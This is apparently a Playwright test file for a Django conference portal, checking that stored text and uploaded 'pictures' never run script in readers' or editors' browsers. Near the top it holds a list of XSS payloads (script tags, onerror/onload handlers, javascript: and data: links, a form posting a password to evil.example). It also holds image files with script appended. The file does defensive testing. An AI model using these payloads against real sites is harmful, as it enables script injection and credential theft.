"""What somebody may plant, knowingly or not: nothing of it runs in a browser, and pictures are shown."""

import base64
import re
from collections.abc import Iterator

import pytest
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from playwright.sync_api import BrowserContext, Locator, Page, expect

from glossary.models import Source, Term
from portal.editor.reencoding import MORE_THAN_A_PICTURE, NO_PICTURE
from portal.editor.storage import ENDS
from tests.browser.pages import VIEWPORTS, Watch
from tests.browser.writing import open_editor, planted_section, sign_in
from tests.support.admin_forms import admin_url
from tests.support.kinds import tool_kind
from tests.support.picture_files import drawing, file_of, stored_files
from topics.models import Committee, Edition, Section, Tool, Topic
from topics.pictures import ADDRESS, ASKS_FOR_WORDS

RUNS = "document.documentElement.dataset.ran=1;alert(1)"
PIXEL = (
    "data:image/svg+xml;base64,"
    + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
)
NAME = f"{'5' * 32}-300x200.png"
HOSTILE_LINES = [
    f"<script>{RUNS}</script>",
    f"</p></article></main><script>{RUNS}</script>",
    f'<img src=x onerror="{RUNS}">',
    f'<svg onload="{RUNS}"><script>{RUNS}</script></svg>',
    f'<math><mtext></p><img src=x onerror="{RUNS}"></mtext></math>',
    f'<iframe srcdoc="<script>{RUNS}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUNS}</script>"></object>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>',
    '<form action="https://evil.example/"><input name="password"></form>',
    f'<p style="background: url(javascript:{RUNS})" onclick="{RUNS}">styled</p>',
    f"[a](javascript:{RUNS}) [b](JaVaScRiPt:{RUNS}) [c](&#106;avascript:{RUNS})",
    f"[d](data:text/html,<script>{RUNS}</script>) [e](vbscript:{RUNS}) <javascript:{RUNS}>",
    f'[f](https://a.example "\\" onmouseover=\\"{RUNS}") [g](https://a.example\'onmouseover=\'{RUNS})',
    f"![h](javascript:{RUNS}) ![i]({PIXEL}) ![j](https://evil.example/pixel.gif) ![k](//evil.example/p.gif)",
    f'![" onerror="{RUNS}]({ADDRESS}{NAME}) ![l]({ADDRESS}{NAME} "\\" onload=\\"{RUNS}")',
    f'![m]({ADDRESS}x.svg) ![n](/media/images/../../{NAME}) ![o]({ADDRESS}{NAME}"onload="{RUNS})',
    f"```html\n<script>{RUNS}</script>\n```",
    f"[@{RUNS}] [[<script>{RUNS}</script>]] !<script>{RUNS}</script> !!<img src=x onerror={RUNS}>!!",
    f"|<script>{RUNS}</script>|\n|-|\n|<img src=x onerror={RUNS}>|",
    f"# <script>{RUNS}</script> {{#id onclick={RUNS}}}",
    "[p]: javascript:alert(1) 'title'\n\n[p] ![p]",
]
TEXT = "\n\n".join(HOSTILE_LINES)
WORD = f"</script><script>{RUNS}</script>\"'><img src=x onerror={RUNS}>"
ATTRIBUTES_THAT_RUN = """() => [...document.querySelectorAll(":not(link[rel=icon])")].flatMap((element) =>
  [...element.attributes].filter(({name, value}) =>
    /^on|^style$|^srcdoc$/.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value)
  ).map(({name, value}) => `${element.tagName} ${name}=${value}`))"""


@pytest.fixture
def reader(context: BrowserContext, watch: Watch) -> Page:
    """A page that notes it when something asks for attention."""
    page = context.new_page()
    page.on("dialog", lambda dialog: (watch.complaints.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    return page


@pytest.fixture
def storage(site: str) -> Iterator[None]:
    """What is stored in a test is gone again after it."""
    before = stored_files()
    yield
    for path in stored_files().keys() - before.keys():
        default_storage.delete(path)


@pytest.fixture
def picture(storage: None) -> None:
    default_storage.save(f"images/{NAME}", ContentFile(file_of(drawing(300, 200), "PNG")))


@pytest.fixture
def hostile(site: str, picture: None) -> Iterator[Section]:
    """A section of an edition whose every text and name is hostile; then it is gone again."""
    edition = Edition.objects.create(slug="2032", year=2032, conference=WORD[:120], status="published")
    committee = Committee.objects.create(
        edition=edition, slug="assembly", name=WORD, presentation=TEXT, mandate=TEXT, published=True
    )
    topic = Topic.objects.create(
        committee=committee, number=1, slug="water", title=WORD, introduction=TEXT, published=True
    )
    Term.objects.create(
        edition=edition, slug="alert", name="alert", definition=TEXT, french=WORD, published=True
    )
    Source.objects.create(edition=edition, key="alert", title=WORD, note=TEXT, published=True)
    Tool.objects.create(
        committee=committee,
        slug="script",
        name="script",
        kind=tool_kind(committee),
        summary=WORD,
        body=TEXT,
        published=True,
    )
    yield Section.objects.create(
        topic=topic,
        position=1,
        slug="wells",
        title=WORD,
        body=f"[@alert] {TEXT}",
        editor_note=TEXT,
        published=True,
    )
    edition.delete()


@pytest.fixture
def harmless(site: str, storage: None) -> Iterator[Section]:
    with planted_section() as section:
        yield section


def expect_nothing_ran(page: Page, watch: Watch) -> None:
    page.wait_for_load_state("networkidle")
    expect(page.locator("html")).not_to_have_attribute("data-ran", re.compile(".*"))
    assert watch.complaints == []


def drop(editor: Locator, data: bytes, name: str) -> None:
    """Let a file fall on the text, as from the desktop."""
    editor.evaluate(
        """(editor, {data, name}) => {
          const bytes = Uint8Array.from(atob(data), (character) => character.charCodeAt(0));
          const dropped = new DataTransfer();
          dropped.items.add(new File([bytes], name));
          const how = {dataTransfer: dropped, bubbles: true, cancelable: true};
          editor.dispatchEvent(new DragEvent("dragover", how));
          editor.dispatchEvent(new DragEvent("drop", how));
        }""",
        {"data": base64.b64encode(data).decode(), "name": name},
    )


# Texts


def test_nothing_that_is_written_into_a_text_runs_for_its_readers(
    reader: Page, watch: Watch, hostile: Section
) -> None:
    for row in (hostile, hostile.topic, hostile.topic.committee, hostile.topic.committee.tools.get()):
        assert reader.goto(row.get_absolute_url()).status == 200
        expect(reader.locator("main").get_by_text("<script>").first).to_be_visible()
        assert reader.locator("main img").count() > 0
        reader.evaluate("scrollTo(0, document.documentElement.scrollHeight)")
        expect_nothing_ran(reader, watch)
        assert reader.evaluate(ATTRIBUTES_THAT_RUN) == []
    for address in ("/2032/", "/2032/glossary/", "/2032/glossary/alert/", "/2032/bibliography/"):
        assert reader.goto(address).status == 200
        expect_nothing_ran(reader, watch)
        assert reader.evaluate(ATTRIBUTES_THAT_RUN) == []


def test_nor_when_its_words_are_opened_in_place(reader: Page, watch: Watch, hostile: Section) -> None:
    reader.goto(hostile.get_absolute_url())
    for kind in (".to-term", ".to-tool", ".to-source"):
        reader.locator(f"main a{kind}").first.click()
        expect(reader.locator(".panel:popover-open")).to_be_visible()
        reader.keyboard.press("Escape")
    expect_nothing_ran(reader, watch)


def test_nor_for_its_editors(
    reader: Page, watch: Watch, hostile: Section, organiser: User, site: str
) -> None:
    sign_in(reader.context, organiser, site)
    for model in (Edition, Committee, Topic, Section, Tool, Term, Source):
        assert reader.goto(f"{admin_url('changelist', model)}?q=2032").status == 200
        expect(reader.locator("#result_list tbody tr")).to_have_count(1)
        assert reader.goto(admin_url("change", model.objects.order_by("pk").last())).status == 200
        expect_nothing_ran(reader, watch)


def test_nor_in_the_answer_that_the_preview_shows(
    reader: Page, watch: Watch, hostile: Section, organiser: User, site: str
) -> None:
    """Set into a page as the editor does it, by innerHTML: there attributes would run, if any came."""
    sign_in(reader.context, organiser, site)
    reader.goto(admin_url("change", hostile))
    token = reader.locator("[name=csrfmiddlewaretoken]").first.input_value()
    answer = reader.request.post(
        reverse("markdown_preview"),
        form={"content": TEXT, "csrfmiddlewaretoken": token},
        headers={"Referer": reader.url},
    )
    assert answer.status == 200
    reader.goto("/2026/")
    reader.evaluate("(html) => document.querySelector('main').innerHTML = html", answer.text())
    expect(reader.locator("main").get_by_text("<script>").first).to_be_visible()
    expect_nothing_ran(reader, watch)
    assert reader.evaluate(ATTRIBUTES_THAT_RUN) == []


# Files


@pytest.mark.parametrize("extension", ["png", "jpg"])
def test_a_file_that_is_no_picture_is_none_to_a_browser_either(
    reader: Page, watch: Watch, storage: None, extension: str
) -> None:
    """Even if one got past the upload it would not be a page, a script, a style sheet or a frame."""
    page_name, script_name = f"{'6' * 32}-300x200.{extension}", f"{'7' * 32}-300x200.{extension}"
    end = ENDS[extension]  # or they would be pictures that are cut off, which nobody gets
    default_storage.save(f"images/{page_name}", ContentFile(f"<script>{RUNS}</script>".encode() + end))
    default_storage.save(f"images/{script_name}", ContentFile(f"{RUNS}; //".encode() + end))
    assert reader.goto(f"{ADDRESS}{page_name}").status == 200
    expect(reader.locator("html")).not_to_have_attribute("data-ran", re.compile(".*"))

    reader.goto("/2026/")
    for tag, attributes in {
        "script": {"src": f"{ADDRESS}{script_name}"},
        "link": {"href": f"{ADDRESS}{script_name}", "rel": "stylesheet"},
    }.items():
        outcome = reader.evaluate(
            """([tag, attributes]) => new Promise((resolve) => {
              const element = Object.assign(document.createElement(tag), attributes);
              element.addEventListener("load", () => resolve("taken"));
              element.addEventListener("error", () => resolve("refused"));
              document.head.append(element);
            })""",
            [tag, attributes],
        )
        assert outcome == "refused"
    expect(reader.locator("html")).not_to_have_attribute("data-ran", re.compile(".*"))
    assert not any(complaint.startswith("dialog") for complaint in watch.complaints)


def test_a_script_of_ours_is_one_to_it(reader: Page) -> None:
    """So the test above refuses for the right reason."""
    reader.goto("/2026/")
    assert reader.evaluate(
        """() => new Promise((resolve) => {
          const script = Object.assign(document.createElement("script"), {
            src: document.querySelector("script[src]").src, type: "module"});
          script.addEventListener("load", () => resolve(true));
          script.addEventListener("error", () => resolve(false));
          document.head.append(script);
        })"""
    )


@pytest.mark.parametrize("viewport", VIEWPORTS)
def test_a_picture_dropped_on_a_text_is_what_delegates_see_next(
    reader: Page, watch: Watch, harmless: Section, organiser: User, site: str, viewport: str
) -> None:
    sign_in(reader.context, organiser, site)
    editor = open_editor(reader, admin_url("change", harmless))
    drop(editor, file_of(drawing(2000, 1000), "JPEG"), "river.jpg")
    expect(editor).to_have_value(re.compile(rf"!\[{ASKS_FOR_WORDS}\]\({ADDRESS}[0-9a-f]+-1600x800\.jpg\)"))
    editor.fill(editor.input_value().replace(ASKS_FOR_WORDS, "A river between two states"))
    reader.get_by_role("button", name="Save and publish", exact=True).first.click()
    expect(reader.get_by_text("was changed successfully")).to_be_visible()

    reader.set_viewport_size(VIEWPORTS[viewport])
    reader.goto(harmless.get_absolute_url())
    image = reader.get_by_role("img", name="A river between two states")
    image.scroll_into_view_if_needed()
    expect(image).to_have_js_property("complete", True)
    shown = image.evaluate(
        "image => ({wide: image.naturalWidth, box: image.clientWidth, high: image.clientHeight,"
        " room: image.closest('p').clientWidth, page: document.documentElement.scrollWidth})"
    )
    assert shown["wide"] > 0
    assert shown["box"] == shown["room"]
    assert abs(shown["high"] - shown["box"] / 2) <= 1
    assert shown["page"] <= VIEWPORTS[viewport]["width"]
    assert watch.complaints == []


@pytest.mark.parametrize(
    ("data", "name", "sentence"),
    [
        (f"<script>{RUNS}</script>".encode(), "map.gif", NO_PICTURE),
        (file_of(drawing(), "GIF") + f"<script>{RUNS}</script>".encode(), "map.gif", MORE_THAN_A_PICTURE),
    ],
)
def test_a_hostile_file_dropped_on_a_text_is_refused_with_the_reason_and_the_text_stays(
    reader: Page, harmless: Section, organiser: User, site: str, data: bytes, name: str, sentence: str
) -> None:
    before = stored_files()
    sign_in(reader.context, organiser, site)
    editor = open_editor(reader, admin_url("change", harmless))
    editor.fill("Words that are not saved yet.")
    drop(editor, data, name)
    expect(reader.get_by_text(sentence)).to_be_visible()
    expect(editor).to_have_value("Words that are not saved yet.")
    assert stored_files() == before
